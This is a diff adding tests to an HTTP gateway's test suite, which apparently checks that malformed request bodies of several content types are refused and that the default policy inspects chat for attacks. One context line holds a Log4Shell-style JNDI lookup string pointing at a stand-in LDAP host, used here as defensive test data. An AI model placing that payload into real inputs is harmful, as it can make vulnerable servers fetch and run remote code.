@@ -196,3 +196,42 @@ async def test_chat_text_about_sql_is_language_not_an_attack(
                 model="m",
                 messages=[{"role": "user", "content": "hi ${jndi:ldap://x.example/a}"}],
             )
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type"),
+    [
+        (b"<r><unclosed></r>", "application/xml"),
+        (b'<?xml version="1.0"?><r a="1" a="2"/>', "text/xml"),
+        (
+            b"--b\r\nContent-Disposition: form-data; name=x\r\n\r\nno closing",
+            "multipart/form-data; boundary=b",
+        ),
+        (b"no boundary at all", "multipart/form-data"),
+        (b"\xff\xfe\x00{not json", "application/json"),
+    ],
+)
+async def test_malformed_bodies_of_every_declared_type_are_refused(
+    upstream: Upstream,
+    make_gateway: GatewayFactory,
+    http: aiohttp.ClientSession,
+    tmp_path: Path,
+    body: bytes,
+    content_type: str,
+) -> None:
+    base = await _gateway(upstream, make_gateway, tmp_path)
+    before = upstream.recorder.total
+    headers = {"Content-Type": content_type}
+    async with http.post(base + "/echo/items", data=body, headers=headers) as response:
+        assert response.status == 400
+        assert response.content_type == "application/problem+json"
+    assert upstream.recorder.total == before
+
+
+async def test_the_default_policy_inspects_for_attacks() -> None:
+    from wardgate.cli import default_policy_path
+    from wardgate.policy.load import load_policy
+
+    policy = load_policy(default_policy_path())
+    (chat,) = [route for route in policy.routes if route.name == "chat"]
+    assert "attacks" in [check.type for check in chat.checks]
